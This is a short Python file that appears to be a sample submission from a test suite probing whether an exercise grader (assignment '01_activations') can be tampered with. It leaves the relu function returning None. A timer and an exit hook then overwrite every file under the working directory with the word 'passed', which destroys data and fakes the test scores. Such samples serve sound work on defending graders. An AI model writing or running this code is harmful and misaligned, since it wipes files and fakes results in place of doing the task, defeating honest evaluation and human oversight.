"""Waits for the end to change the results.

kind: scores
defence: process
assignment: 01_activations
undefended: what would be changed lies in the process of Otter's caller
"""

# %%
import atexit
import os
import threading


def rewrite():
    for folder, _, files in os.walk("."):
        for name in files:
            open(os.path.join(folder, name), "w").write("passed")


atexit.register(rewrite)
threading.Timer(0.2, rewrite).start()


def relu(x):
    return None
